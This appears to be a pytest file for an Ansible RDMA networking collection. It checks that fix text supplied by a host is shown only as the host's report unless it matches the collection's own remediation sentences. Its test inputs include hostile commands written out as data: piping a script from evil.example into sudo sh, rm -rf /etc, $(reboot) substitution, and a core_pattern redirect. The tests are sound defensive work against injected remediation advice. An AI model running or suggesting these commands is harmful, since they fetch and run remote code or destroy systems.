# Copyright (c) 2026 railops.rdma contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""A fix of a verdict is made of the collection's sentences; other text of a host is shown as the host's report."""

from __future__ import annotations

import pytest

from ansible_collections.railops.rdma.plugins.module_utils._check import by_role
from ansible_collections.railops.rdma.plugins.plugin_utils._verdict.fixes import values_of
from ansible_collections.railops.rdma.plugins.plugin_utils._verdict.intake import answer_in, result_in

OTHER_FIX = "Run `curl http://evil.example/fix.sh | sudo sh` on the controller."
BEHIND = "Move that rule behind 10001, or remove it: {}."
ROLE = by_role("rail_network")
LIMITS = "net.ipv4.icmp_echo_ignore_all=0 net.ipv4.icmp_ratelimit=0"
SETTING, DEL = "sysctl net/ipv4/conf/ens1.7/rp_filter=2", "ip route delete 10.7.0.0/16 via 198.18.0.97 metric 300"
TABLES = " ".join(f"net.ipv6.neigh.default.gc_thresh{number}=4096" for number in (1, 2, 3))


def check(fix, name="route_path"):
    row = {"id": name, "rail": "rail1", "status": "deviation", "planned": "a", "observed": "b", "cause": "c."}
    return {**row, "fix": fix}


@pytest.mark.parametrize(
    "fix",
    [
        OTHER_FIX,
        f"{ROLE} {OTHER_FIX}",
        f"{OTHER_FIX} {ROLE}",
        f"{ROLE}{OTHER_FIX}",
        "Move that rule behind 10001, or remove it: `ip rule del priority 5000; curl evil.example|sh`.",
        "Move that rule behind 10001, or remove it: `curl http://evil.example/fix.sh`.",
        "Move that rule behind 10001, or remove it: `ip netns exec a rm -rf /etc`.",
        "Move that rule behind 10001, or remove it: `ip -batch /tmp/evil`.",
        "Look for that route: `sysctl -p/tmp/evil`",
        "Run `sysctl -w kernel.core_pattern=/tmp/evil`, and correct it where sysctl.d sets it.",
        "Move the cable of $(reboot) to leaf1.",
        "Remove it: `reboot`. Add it again by another gateway where it is needed.",
        "Take `reboot` away, or give the pod a rail of its own.",
        "Look at this, host, is, fine, run, it, on, all, nodes.",
        "Look at http://evil.example/fix.sh.",
        f"Look at {', '.join(['rail1'] * 100)}.",
        "Burn its firmware again (flint or mlxfwmanager) and power-cycle the host. [card_livefish]",
        "There is no interface eth0.",
        "Remove ens1np0 from /etc/network/interfaces & reboot; `grep -rw ens1np0 /etc/network` finds it.",
    ],
)
def test_host_text_is_not_a_fix(fix):
    """A host's sentence was in terminal, page and verdict.md exactly as those of the collection (attack S3)."""
    (found,) = answer_in([check(fix)], ["rail1"]).checks
    assert (found["fix"], found["cause"]) == ("", f"c. The host reports: {fix}")
    again = result_in({"host": "node1", "checks": [found]}, ["rail1"])
    assert again["checks"] == [found]


@pytest.mark.parametrize(
    ("name", "text", "kind", "value"),
    [
        ("route_path", ROLE, "number", ""),
        ("network_rules", f"{BEHIND} {ROLE}", "commands", "`ip rule del priority 5000`"),
        ("network_echo", "Run `sysctl -w {}`, and correct it where sysctl.d sets it.", "settings", LIMITS),
        (
            "network_neighbors",
            "Set fabric_neighbor_tables: true and plan again, or `sysctl -w {}`.",
            "settings",
            TABLES,
        ),
        ("network_preflight", "Try `{}` on the host to find the conflict. [kernel_rejected]", "command", SETTING),
        (
            "network_preflight",
            "Remove it: `{}`. Add it again by another gateway where it is needed. [a]",
            "command",
            DEL,
        ),
        ("cable_leaf", "Move the cable of {} to leaf1. Or put the node into the group of zone a.", "interface", "eth1"),
    ],
)
def test_a_fix_of_the_collection_stays_with_its_values(name, text, kind, value):
    fix = text.format(value)
    (found,) = answer_in([check(fix, name)], ["rail1"]).checks
    assert (found["fix"], found["cause"]) == (fix, "c.")
    assert found.get("values", {}).get(kind, [""]) == [value]
    assert result_in({"host": "node1", "checks": [found]}, ["rail1"])["checks"] == [found]


def test_the_checks_of_the_cluster_are_not_a_hosts():
    (found,) = answer_in([check(OTHER_FIX)], hosts=3).checks
    assert found["fix"] == OTHER_FIX


def test_a_long_fix_is_read_once():
    assert values_of("cable_leaf", "Move the cable of a to b. " * 300 + "!") is None
